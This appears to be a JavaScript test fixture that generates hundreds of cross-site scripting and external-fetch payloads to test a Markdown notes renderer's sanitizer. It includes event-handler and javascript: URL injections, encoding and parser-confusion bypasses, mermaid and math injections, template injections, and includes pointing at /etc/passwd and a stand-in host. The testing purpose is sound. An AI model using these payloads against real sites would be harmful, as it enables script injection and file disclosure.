// Notes that try to run a script or to fetch something from elsewhere, made by category. Each is
// {name, text} or {name, path, text}; what runs calls xss(), what is fetched lies below ELSEWHERE.

export const ELSEWHERE = "http://elsewhere.test/";

const IMG = "<img src=x onerror=xss()>";
const PARTS = "parts/attack.txt"; // a file that notes include
const all = [];
const add = (name, ...texts) =>
  texts.forEach((text, i) => all.push({ name: texts.length > 1 ? `${name} ${i + 1}` : name, text }));

// ---- event handlers: elements × events × ways to write an attribute ----

const ELEMENTS =
  "b i em strong u s del ins mark small sub sup kbd code samp var q cite dfn bdi ruby rt details " +
  "summary ul ol li br wbr hr div span p a section table button label input select textarea " +
  "fieldset h2 h3 blockquote abbr time video svg math my-element";
const EVENTS =
  "click mouseover focus pointerenter keydown toggle animationstart wheel dblclick contextmenu " +
  "input change drag copy mousedown touchstart beforetoggle";
const FORMS = [
  (name, code) => `${name}=${code}`,
  (name, code) => `${name}="${code}"`,
  (name, code) => `${name}='${code}'`,
  (name, code) => `${name.toUpperCase()}=${code}`,
  (name, code) => `${name} = "${code}"`,
  (name, code) => `title="x" ${name}="${code}"`,
  (name, code) => `class=x ${name}=&#120;s&#x73;()`,
  (name, code) => `id=y title=">" ${name}="${code}"`,
  (name, code) => `open markdown ${name}="${code}"`,
];
ELEMENTS.split(" ").forEach((element, i) => {
  const event = EVENTS.split(" ")[i % EVENTS.split(" ").length];
  const attribute = FORMS[i % FORMS.length](`on${event}`, "xss()");
  add(`<${element}> on${event}`, `Text <${element} ${attribute}>x</${element}>`);
});

// ---- elements that run or fetch by themselves ----

add(
  "by itself",
  IMG,
  `text ${IMG} text`,
  `- item\n\n  ${IMG}`,
  `> ${IMG}`,
  `| a |\n|---|\n| ${IMG} |`,
  `!!! note "Title"\n    ${IMG}`,
  `=== "Tab"\n    ${IMG}`,
  `/// note | Title\n${IMG}\n///`,
  `# ${IMG}`,
  `## Heading ${IMG}\n\n## Other`,
  `- [ ] task ${IMG}`,
  `**Q1) What?**\n\nA) ${IMG}\nB) other\n\n**Answer: A**`,
  `[link ${IMG}](x.md)`,
  `**bold ${IMG}**`,
  "<svg onload=xss()></svg>",
  "<svg><script>xss()</script></svg>",
  "<svg><script href=data:text/javascript,xss()></script></svg>",
  "<details open ontoggle=xss()>x</details>",
  "<details>\n<summary>x</summary>\n\n" + IMG + "\n\n</details>",
  "<input autofocus onfocus=xss()>",
  "<select autofocus onfocus=xss()></select>",
  "<textarea autofocus onfocus=xss()></textarea>",
  "<video><source src=x onerror=xss()></video>",
  "<audio src=x onerror=xss()></audio>",
  "<iframe onload=xss()></iframe>",
  "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
  "<iframe src='javascript:parent.xss()'></iframe>",
  "<iframe src='data:text/html,<script>xss()</script>'></iframe>",
  "<object data='data:text/html,<script>xss()</script>'></object>",
  "<embed src='data:text/html,<script>xss()</script>'>",
  "<style onload=xss()></style>",
  "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=xss()>x</b>",
  "<script>xss()</script>",
  "<SCRIPT>xss()</SCRIPT>",
  "text <script>xss()</script> text",
  "<script type=module>xss()</script>",
  "<script src=data:text/javascript,xss()></script>",
  "<script>\n\nxss()\n\n</script>",
  "<script\n>xss()</script\n>",
  "- item\n  <script>xss()</script>",
  "<div markdown>\n<script>xss()</script>\n</div>",
  "<b><i><script>xss()</script>",
  "<form><button formaction='javascript:xss()'>x</button></form>",
  "<form action='javascript:xss()'><input type=submit></form>",
  "<template shadowrootmode=open><img src=x onerror=xss()></template>",
  "<div><template shadowrootmode=open><img src=x onerror=xss()></template></div>",
  "<svg><a xlink:href='javascript:xss()'><text y=20>x</text></a></svg>",
  "<svg><a><animate attributeName=href values=javascript:xss() /><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
  "<svg><set onbegin=xss() attributeName=x to=1></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.xss()</script>'></iframe></foreignObject></svg>",
  "<math><a href='javascript:xss()'>x</a></math>",
  "<map name=m><area shape=default href='javascript:xss()'></map>",
  "<button popovertarget=q>x</button><div id=q popover onbeforetoggle=xss()>x</div>",
  "<dialog open onfocusin=xss()><button autofocus>x</button></dialog>",
);

const FETCHES = [
  (u) => `<img src=${u}>`,
  (u) => `<img srcset="${u} 2x">`,
  (u) => `<picture><source srcset="${u}"><img src=x></picture>`,
  (u) => `<video poster=${u}></video>`,
  (u) => `<video src=${u} autoplay></video>`,
  (u) => `<audio src=${u} autoplay></audio>`,
  (u) => `<iframe src=${u}></iframe>`,
  (u) => `<object data=${u}></object>`,
  (u) => `<embed src=${u}>`,
  (u) => `<input type=image src=${u}>`,
  (u) => `<script src=${u}></script>`,
  (u) => `<link rel=stylesheet href=${u}>`,
  (u) => `<link rel=preload as=image href=${u}>`,
  (u) => `<style>@import "${u}";</style>`,
  (u) => `<style>body{background:url(${u})}</style>`,
  (u) => `<b style="background:url(${u})">x</b>`,
  (u) => `<div style="background:url(${u})">x</div>`,
  (u) => `<ul style="list-style-image:url(${u})"><li>x</ul>`,
  (u) => `<kbd style='content:url("${u}")'>x</kbd>`,
  (u) => `<svg><image href=${u} width=9 height=9 /></svg>`,
  (u) => `<svg><use href="${u}#x"></use></svg>`,
  (u) => `<table background=${u}><tr><td background=${u}>x</table>`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<base href=${u}>\n\n![x](x.png)`,
  (u) => `<form action=${u}><button>x</button></form>`,
  (u) => `<track src=${u}><video><track default src=${u}></video>`,
  (u) => `![x](${u}x.png)`,
  (u) => `![](${u}x.png "title")`,
  (u) => `![x][r]\n\n[r]: ${u}x.png`,
  (u) => `![r]\n\n[r]: <${u}x.png>`,
  (u) => `[![x](${u}x.png)](y.md)`,
  (u) => `| a |\n|---|\n| ![x](${u}x.png) |`,
  (u) => `## ![x](${u}x.png)`,
  (u) => `# ![x](${u}x.png)`,
  (u) => `- [ ] ![x](${u}x.png)`,
  (u) => `!!! note "![x](${u}x.png)"\n    x`,
  (u) => `=== "![x](${u}x.png)"\n    x`,
  (u) => `> [!note] ![x](${u}x.png)\n> x`,
  (u) => `![x](${u.replace("http:", "")}x.png)`,
  (u) => `![x](${u.replace("http", "HtTp")}x.png)`,
  (u) => `![x](${u.replace("http", "ht&#9;tp")}x.png)`,
  (u) => `![x](${u.replace("http", "&#104;ttp")}x.png)`,
  (u) => `![x](<  ${u}x.png>)`,
  (u) => `![x](&#1;${u.replace("http:", "")}x.png)`,
  (u) => `![x](${u.replace("http://", "\\\\\\\\")}x.png)`,
  (u) => `![x](${u.replace("http://", "/\\\\")}x.png)`,
  (u) => `![x](${u.replace("http://", "/&#10;/")}x.png)`,
  (u) => `![[${u}x.png]]`,
  (u) => `![x](${u}x.png){width=10}`,
  (u) => `![x](${u}x.mp4)`,
  (u) => "```mermaid\nflowchart LR\nA[\"<img src='" + u + "'>\"]\n```",
  (u) => `$\\includegraphics{${u}x.png}$`,
];
FETCHES.forEach((make, i) => add(`fetch ${i + 1}`, make(`${ELSEWHERE}${i + 1}/`)));

// ---- addresses: schemes × ways to hide them × places ----

const SCHEMES = [
  "javascript:xss()",
  "vbscript:xss()",
  "data:text/html,<script>xss()</script>",
  "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
  "view-source:javascript:xss()",
  "feed:javascript:xss()",
  "x-unknown:xss()",
  "blob:null/xss",
];
const HIDDEN = [
  "JaVaScRiPt:xss()",
  "&#106;avascript:xss()",
  "&#x6a;&#x61;vascript&colon;xss()",
  "java&#9;script:xss()",
  "java&Tab;script:xss()",
  "java&#10;script:xss()",
  "java&NewLine;script&colon;xss()",
  "javascript&#9;:xss()",
  "&#1;javascript:xss()",
  "&#32;javascript:xss()",
  "&#31;&#13;javascript:xss()",
  "\\javascript\\:xss()",
  "javascript\\:xss()",
  "javascript%3Axss()",
  "./javascript:xss()",
  "javascript:%78ss()",
  "javascript://%0Axss()",
  "javascript://elsewhere.test/%0Axss()",
  "//javascript:xss()",
  "javascript&#0;:xss()",
  "&#x200b;javascript:xss()",
];
const PLACES = [
  (a) => `[x](${a})`,
  (a) => `[x](<${a}>)`,
  (a) => `[x][r]\n\n[r]: ${a}`,
  (a) => `[r]\n\n[r]: <${a}> "title"`,
  (a) => `[x](${a} "title")`,
  (a) => `# [x](${a})`,
  (a) => `## [x](${a})\n\n## Other`,
  (a) => `- [ ] [x](${a})`,
  (a) => `| a |\n|---|\n| [x](${a}) |`,
  (a) => `!!! note "[x](${a})"\n    x`,
  (a) => `## Prerequisites\n\n- [x](${a})`,
  (a) => `Next: [x](${a})`,
  (a) => `[![x](${a})](${a})`,
  (a) => `<a href="${a}">x</a>`,
  (a) => `<b>[x](${a})</b>`,
  (a) => `[x](${a}){target=_self}`,
];
SCHEMES.forEach((scheme, i) => {
  const safe = scheme.replace(/[<>]/g, (c) => (c === "<" ? "&lt;" : "&gt;"));
  for (let k = 0; k < 3; k++) add(`scheme ${i}.${k}`, PLACES[(3 * i + k) % PLACES.length](safe));
  add(`autolink ${scheme}`, `<${scheme.replace(/[<>]/g, "")}>`);
});
for (const [i, hidden] of HIDDEN.entries()) {
  add(`hidden ${hidden}`, PLACES[0](hidden), PLACES[1 + (i % (PLACES.length - 1))](hidden));
}
for (const [i, place] of PLACES.entries()) add(`place ${i}`, place("javascript:xss()"));
add(
  "wikilink",
  "[[javascript:xss()]]",
  "[[x|" + IMG + "]]",
  `[[${IMG}]]`,
  "[[javascript:xss()|x]] ![[javascript:xss()]]",
);

// ---- what browsers parse otherwise than it looks ----

add(
  "parsing",
  `<svg><style>${IMG}</style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${IMG}">`,
  `<noscript><p title="</noscript>${IMG}"></noscript>`,
  `<textarea></textarea>${IMG}`,
  `<title></title>${IMG}`,
  `<xmp></xmp>${IMG}`,
  `<xmp><p title="</xmp>${IMG}">`,
  `<noembed><p title="</noembed>${IMG}">`,
  `<iframe><p title="</iframe>${IMG}">`,
  `<style><p title="</style>${IMG}">`,
  `<plaintext>${IMG}`,
  `<listing>${IMG}</listing>`,
  `<!-->${IMG}-->`,
  `<!--->${IMG}-->`,
  `<!-- --!>${IMG}-->`,
  `<!--> -->${IMG}`,
  `<![CDATA[>${IMG}]]>`,
  `<? >${IMG}?>`,
  `<!x ">${IMG}">`,
  `<b title=">">${IMG}</b>`,
  `<b title='">${IMG}'>x</b>`,
  "<b title=`>`" + IMG + ">x</b>",
  `<p><table><p>${IMG}</table>`,
  `<select><style>${IMG}</style></select>`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}</style></form>`,
  "<b onmouseover=xss() \n\nx",
  "<img src=x onerror=xss() ",
  "<img src=x onerror=xss()//",
  "<a href='javascript:xss()'<b>x</a>",
  "</b onclick=xss()>x",
  "<b></b/onclick=xss()>x",
  "<b/onclick=xss()>x</b>",
  "<img/src=x/onerror=xss()>",
  "<img\tsrc=x\nonerror=xss()>",
  "<img src=x onerror=xss() title='a\nb'>",
  `<<script>xss()//<</script>`,
  `<scr<script>ipt>xss()</scr</script>ipt>`,
  `<scr<!-- -->ipt>xss()</script>`,
  `&lt;script&gt;xss()&lt;/script&gt;`,
  `&#60;img src=x onerror=xss()&#62;`,
  `\\<img src=x onerror=xss()>`,
  `<img src=x onerror=xss()\\>`,
  `\`<b>\`${IMG}\`</b>\``,
  `<b>\n\n<i>\n\n${IMG}\n\n</b></i>`,
  `<details><summary></details>${IMG}</summary>`,
  `<ul><li><ul><li>${IMG}`,
  `<div class="x" class="y" onmouseover=xss()>x</div>`,
  `<div class="a&quot; onmouseover=xss() x=&quot;">x</div>`,
  `<div id="a" markdown onmouseover=xss()>\n\nx\n\n</div>`,
  `<div class='" onmouseover=xss() x="'>x</div>`,
  `${"<b>".repeat(600)}${IMG}`,
  `${"> ".repeat(90)}${IMG}`,
  `${"- ".repeat(60)}${IMG}`,
);

// ---- front matter ----

const FIELDS =
  "title id type description aliases redirect_from tags category difficulty status tier " +
  "importance minutes created updated prerequisites related next " +
  "canonical essential_question layout url image template best_for";
for (const field of FIELDS.split(" ")) {
  add(
    `front ${field}`,
    `---\n${field}: '${IMG} {{{x}}} "onmouseover="xss()" [x](javascript:xss())'\n---\ntext`,
  );
}
add(
  "front",
  `---\ntags: ['${IMG}', '"><script>xss()</script>']\n---\ntext`,
  `---\naliases: ['${IMG}', 'javascript:xss()']\n---\ntext`,
  `---\n'${IMG}': '${IMG}'\n---\ntext`,
  `---\na: {b: {c: ['${IMG}', {'${IMG}': x}]}}\n---\ntext`,
  `---\na: {b: {c: {d: {e: {f: {g: {h: '${IMG}'}}}}}}}\n---\ntext`,
  `---\ntier: gold\nmodern_examples:\n- {company: '${IMG}', '${IMG}': '${IMG}'}\n---\n!!! gold "${IMG}"\n    x`,
  `---\nurl: javascript:xss()\nimage: ${ELSEWHERE}front.png\n---\ntext`,
  `---\nprerequisites: ['${IMG}', 'javascript:xss()', '[x](javascript:xss())']\n---\ntext`,
  `---\ntitle: '{{{page.title}}} {{>base}} {{#lambda}}xss(){{/lambda}}'\n---\ntext`,
  `---\n: ${IMG}\n  - broken [\n---\ntext`,
  `---\ntitle: </title><script>xss()</script>\n---\ntext`,
);

// ---- everything else that becomes part of a page ----

const QUOTES = `x" onmouseover="xss()" x='`;
add(
  "text",
  `# Title {#x" onmouseover="xss()}\n\n## Two {#two onmouseover="xss()"}`,
  `# Title {onmouseover="xss()" #a}\n\n## Two {: onclick=xss() .b }`,
  `## Two {id='x" onmouseover="xss()'}`,
  `## Two {class='x" onmouseover="xss()'}`,
  `## Two {#two style="background:url(${ELSEWHERE}style.png)"}`,
  `## ${IMG.replace("<", "\\<")}\n\n## Other`,
  `## \`${IMG}\`\n\n## Other`,
  `[x](y.md '${QUOTES}')`,
  `![${QUOTES}](x.png "x\\" onerror=\\"xss()")`,
  `![x](x.png){onerror="xss()"}`,
  `![x](x.png){style="background:url(${ELSEWHERE}image.png)" onload=xss()}`,
  `[x](y.md){onclick="xss()" href="javascript:xss()"}`,
  `**x**{onmouseover=xss()}`,
  `text\n{: onmouseover="xss()" style="background:url(${ELSEWHERE}block.png)" }`,
  `- item\n{: onmouseover="xss()" }`,
  "```" + QUOTES + "\nx\n```",
  "``` {.js onmouseover=\"xss()\" style=\"background:url(" + ELSEWHERE + "fence.png)\"}\nx\n```",
  '```js title="<img src=x onerror=xss()>" hl_lines="1"\nx\n```',
  "```html\n" + IMG + "\n```",
  "    " + IMG,
  "~~~html\n</code></pre>" + IMG + "\n~~~",
  "```mermaid\nflowchart LR\nA-->B\nclick A \"javascript:xss()\"\n```",
  "```mermaid\n%%{init: {\"securityLevel\": \"loose\"}}%%\nflowchart LR\nA[\"<img src=x onerror=xss()>\"]\n```",
  "```mermaid\n</pre>" + IMG + "\n```",
  "```math\n\\href{javascript:xss()}{x}\n```",
  `$\\href{javascript:xss()}{x}$ $${IMG}$`,
  `$$\n\\htmlData{x=y}{x} ${IMG}\n$$`,
  `!!! ${QUOTES} "Title"\n    x`,
  `!!! note "${IMG}"\n    x`,
  `??? note "<script>xss()</script>"\n    x`,
  `> [!note|${QUOTES}] ${IMG}\n> x`,
  `> [!x" onmouseover="xss()] Title\n> x`,
  `=== "<script>xss()</script>"\n    x\n=== "b"\n    y`,
  `/// html | div[onmouseover="xss()"]\nx\n///`,
  `/// html | div.x"onmouseover="xss()"\nx\n///`,
  `/// note | Title\n    attrs: {class: 'x" onmouseover="xss()'}\nx\n///`,
  `/// note | Title\n    type: x" onmouseover="xss()\nx\n///`,
  `/// html | script\nxss()\n///`,
  `/// html | iframe[src="javascript:xss()"]\n///`,
  `text[^1]\n\n[^1]: ${IMG} [x](javascript:xss())`,
  `text[^x" onmouseover="xss()]\n\n[^x" onmouseover="xss()]: note`,
  `term\n: ${IMG}`,
  `*[HTML]: x" onmouseover="xss()\n\nHTML`,
  `*[HTML]: ${IMG}\n\nHTML`,
  `==${IMG}== ^^x^^ ++ctrl+"onmouseover=xss()"++`,
  `:x"onmouseover="xss(): :material-x:`,
  `- [x] ${QUOTES}`,
  `**Q: ${IMG}**\n\nA: ${IMG}`,
  `{{{xss}}} {{#strings}}{{{.}}}{{/strings}} {{> base }} {{=<% %>=}}<%& x %>`,
  `{% raw %}${IMG}{% endraw %} <%= xss() %> \${xss()} #{xss()} {{constructor.constructor('xss()')()}}`,
  `--8<-- "../kbsite.yml"\n\n--8<-- "${ELSEWHERE}x.md"\n\n{{#include ../../etc/passwd}}`,
  `<https://example.org/"onmouseover="xss()>`,
  `https://example.org/"onmouseover="xss() www.example.org/'onclick=xss()`,
  `<a@example.org"onmouseover="xss()>`,
  `[x](?q="onmouseover="xss()#"onclick="xss())`,
  `[x](#"onmouseover="xss())`,
  `<div id="kb:navigation">x</div>\n\n<div class="kb-list"><ul><li><a>x</a></li></ul></div>`,
  `<div class="tabs"><div class="tab">${IMG}</div></div>`,
  `[include]: ${IMG}\n\n[${IMG}]: x.md "${IMG}"\n\n[${IMG}]`,
  `x\u0000<img src=x onerror=xss()>\u0000`,
  `\uFEFF<script>xss()</script>`,
  `<\u017Fcript>xss()</\u017Fcript> <img src=x oner\u0000ror=xss()>`,
);

// ---- the constructs that only notes have, each where it puts a text of the author's ----

const OUT = `"><img src=x onerror=xss()>`;
const HANDLER = `x" onmouseover="xss()`;
add(
  "tabs",
  `=== "${IMG} \`${IMG}\` [x](javascript:xss())"\n    x\n===+ "${HANDLER}"\n    y`,
  `/// tab | ${IMG}\n    select: ${HANDLER}\nx\n///`,
  `<div class="tabs"><section class="tab" markdown>\n<p class="tab-title">${IMG}</p>\n</section></div>\n\n=== "a"\n    x`,
  `=== "&lt;img src=x onerror=xss()&gt; $${IMG}$ ++"${IMG}"++"\n    x`,
);
add(
  "callout",
  `> [!note|${HANDLER}]- ${IMG} [x](javascript:xss())\n> x`,
  `> [!${HANDLER.replaceAll('"', "")}]\n> x\n> > [!提示${HANDLER}] x\n> > ${IMG}`,
  `> [!note] [[x|${IMG}]] ==${IMG}== {onmouseover="xss()" .kb-head}\n> x\n{onclick=xss()}`,
  `!!! 提示${HANDLER} "${IMG}"\n    ${IMG}`,
  `!!! note annotate "${IMG} (1)"\n    x\n\n1. ${IMG}`,
  `??? kb-note${HANDLER}\n    x`,
);
add(
  "footnote",
  `x^[${IMG} [y](javascript:xss()) ^[${IMG}]]`,
  `x[^${OUT.replaceAll(" ", "/")}]\n\n[^${OUT.replaceAll(" ", "/")}]: ${IMG}\n    <script>xss()</script>`,
  `x[^'onmouseover='xss()]\n\n[^'onmouseover='xss()]: ![x](x.png){onerror=xss()}`,
  `x[^kb:navigation]\n\n[^kb:navigation]: ${IMG}\n\n    > [!note] ${IMG}\n    > x`,
);
add(
  "attribute list",
  `[x](y.md){: href=javascript:xss() HREF="javascript:xss()" xlink:href=javascript:xss() }`,
  `![x](x.png){: src=${ELSEWHERE}list.png srcset="${ELSEWHERE}list.png 2x" OnErRoR=xss() }`,
  `**x**{: on"mouseover=xss() } ==y=={on\u0000click=xss()} ~z~{ formaction=javascript:xss() }`,
  `:material-home:{ .a"onmouseover="xss() } :fire:{ .b"onmouseover="xss()" #c onmouseover=xss() }`,
  `:material-home:{ .kb-head title="${HANDLER}" } $x$${"{"}onmouseover=xss()}`,
  `| a { onclick=xss() .b } |\n|---|\n| c { class='x" onclick="xss()' } |\n{ onclick=xss() style=x }`,
  `- x { srcdoc="<script>parent.xss()</script>" is=x-y }\n\n{: onclick=xss() .x }`,
  `[[x]]{onmouseover=xss() href=javascript:xss()} ![[x.png]]{onerror=xss() src=${ELSEWHERE}wiki.png}`,
  `## x {#x'onmouseover='xss() .y onclick=xss() data-x='" onclick="xss()'}`,
  `https://example.org/{onclick=xss()} <https://example.org/>{ onmouseover=xss() target="x" }`,
);
add(
  "include",
  `--8<-- "notes/${PARTS}"`,
  `!!! note\n    --8<-- "notes/${PARTS}"\n\n=== "x"\n    {{#include ${PARTS}}}`,
  `\`\`\`html\n--8<-- "notes/${PARTS}"\n\`\`\``,
  `--8<-- "${IMG}"\n\n{{#include ${IMG}:1:2}}\n\n{{#include ${PARTS}:${IMG}}}`,
  `--8<--\n/etc/passwd\n../../../etc/passwd\nhttp://elsewhere.test/include.md\n--8<--`,
);
add(
  "wikilink label",
  `[[x|[y](javascript:xss())]] [[x#${IMG}|${IMG}]] [[#${HANDLER}]]`,
  `| a |\n|---|\n| [[x\\|${IMG}]] ![[x.png\\|${HANDLER}\\|10]] |`,
  `![[x.png|${OUT}|300x200]] ![[x.png|300" onerror="xss()]]`,
  `[[${OUT}]] [[x${HANDLER}|y]] ![[${HANDLER}.mp4]]`,
  `![[javascript:xss()//.mp4]] ![[data:text/html,<script>xss()</script>.mp3]]`,
  `![[${ELSEWHERE}embed.mp4]] ![[${ELSEWHERE}embed.svg#x]] ![[${ELSEWHERE}embed.pdf]]`,
  `![[//elsewhere.test/slashes.png]] ![[\\\\elsewhere.test\\slashes.png]] ![[ht&#116;p://elsewhere.test/a.png]]`,
);
add("block id", `${IMG} ^a"onmouseover="xss()`, `${IMG} ^attacked\n\n![[#^attacked]]`);
add(
  "math",
  `$\\href{javascript:xss()}{\\text{${IMG}}}$ $\\url{javascript:xss()}$ \\(\\style{x}{y}\\)`,
  `$\\htmlClass{kb-head}{x}\\htmlId{kb:x}{y}\\htmlStyle{background:url(${ELSEWHERE}style.png)}{z}$`,
  `\\[\n\\)</span>${IMG}\n\\]\n\n<span class="math">\\(\\href{javascript:xss()}{x}\\)</span>`,
  `$\\def\\x{\\x\\x}\\x$ $\\color{red;background:url(${ELSEWHERE}colour.png)}{x}$ $\\unicode{<img>}$ $\\error{${IMG}$`,
  `> $$\n> </div>${IMG}\n> $$`,
);
add(
  "diagram",
  "```mermaid\n---\nconfig: {securityLevel: loose, htmlLabels: true}\n---\nflowchart LR\n" +
    `A["${IMG.replaceAll('"', "")}"] --> B["<script>xss()</script>"]\nclick A call xss()\nclick B href "javascript:xss()"\n` +
    "```",
  "```mermaid\n%%{init: {'themeCSS': '} body { background: url(" + ELSEWHERE + "theme.png) }'}}%%\nflowchart LR\nA-->B\n```",
  "```mermaid\nflowchart LR\nA[x]\nstyle A fill:url(" + ELSEWHERE + "fill.png),background:url(" + ELSEWHERE + "b.png)\n```",
  "```mermaid\nflowchart LR\nA@{ img: \"" + ELSEWHERE + "node.png\", label: \"x\" }\n```",
  "```mermaid\nsequenceDiagram\nparticipant A\nlink A: x @ javascript:xss()\nlinks A: {\"y\": \"javascript:xss()\"}\nA->>A: " + IMG + "\n```",
  "```mermaid\n" + IMG + "\nnothing of a diagram </code></pre>" + IMG + "\n```",
  "```{.mermaid title=\"" + IMG.replaceAll('"', "'") + "\" .kb-head}\nclassDiagram\nclass A\nlink A \"javascript:xss()\"\ncallback A \"xss\"\n```",
);
add(
  "code title",
  "```js title='" + OUT + "' linenums=\"" + IMG + "\" hl_lines=\"1\"\nx\n```",
  "``` { ." + HANDLER.replaceAll(" ", "/") + " title=\"</figcaption>" + IMG + "\" onclick=xss() }\nx\n```",
  "```" + OUT.replaceAll(" ", "/") + " {1} showLineNumbers\n" + IMG + "\n```",
  "`#!\"onmouseover=xss() x` `#!js " + IMG + "`{ onclick=xss() }",
  "```html linenums=\"1\" hl_lines=\"1-2\"\n</span></code></pre>" + IMG + "\n<script>xss()</script>\n```",
);
add(
  "abbreviation",
  `*[xx]: ${OUT}\n*[yy]: ${HANDLER}\n\n# xx\n\n## yy xx\n\n[xx](y.md "yy") \`xx\` ![xx](x.png)`,
  `*[<img]: x\n*["]: ${HANDLER}\n\n<img src=x onerror=xss()> <b title="xx">"</b>`,
  `*[onerror]: ${OUT}\n*[src]: x\n\n${IMG} <b onerror=xss()>onerror</b>`,
);
add(
  "annotation",
  `<div class="annotate" onclick=xss() markdown>\n${IMG} (1)\n</div>\n\n1. ${IMG}`,
  `x (1)\n{ .annotate #x"onclick="xss() }\n\n1. ${IMG} { onclick=xss() #y'onclick='xss() }`,
);
add(
  "definition",
  `${IMG}\n:   ${IMG}\n\n    <script>xss()</script>`,
  `/// define\n${IMG}\n\n- ${IMG} [x](javascript:xss())\n///`,
);
add(
  "block",
  `/// html | div.x#y[onclick=xss()]{${HANDLER}}\n${IMG}\n///`,
  `/// caption | ${IMG}\n${IMG}\n///`,
  `/// ${HANDLER} | ${IMG}\nx\n///\n\n/// details | ${IMG}\n    open: ${HANDLER}\n    attrs: {class: ${HANDLER}, onclick: xss()}\nx\n///`,
);
add(
  "comment",
  `%% ${IMG} %%${IMG}%% x %%<script>%%xss()</script>`,
  `<b %%x%% onclick=xss()>x</b> <im%%%%g src=x onerror=xss()> java%%x%%script:xss()`,
);

// ---- names of files and folders, and files beside the notes ----

const PATHS = [
  "<img src=x onerror=xss()>.md",
  "\"onmouseover=\"xss()\".md",
  "'onmouseover='xss()'.md",
  "javascript:xss().md",
  "{{{x}}}.md",
  "&lt;script&gt;xss()&lt;script&gt;.md",
  "<svg onload=xss()>/index.md",
  "<b>/<img src=x onerror=xss()>.md",
  "javascript:xss()/a.md",
];
PATHS.forEach((path, i) => all.push({ name: `path ${i + 1}`, path, text: "text\n" }));
all.push({ name: "link to a path", text: `[x](<${PATHS[3]}>) [x](javascript%3Axss%28%29.md)` });

const RUNS = "<script>xss()</script>";
const SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>xss()</script></svg>";
export const FILES = {
  "assets/early.js": "xss()",
  "assets/reading.js": "xss()",
  [PARTS]: `${IMG}\n<script>xss()</script>\n[x](javascript:xss()) ![x](${ELSEWHERE}part.png)\n`,
  "page.html": RUNS,
  "page.htm": RUNS,
  "page.XHTML": `<html xmlns='http://www.w3.org/1999/xhtml'><script>xss()</script></html>`,
  "picture.svg": SVG,
  "feed.xml": `<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>xss()</h:script></x>`,
};

export const ATTACKS = all.map((attack, i) => ({
  path: `v${String(i + 1).padStart(3, "0")}.md`,
  ...attack,
}));
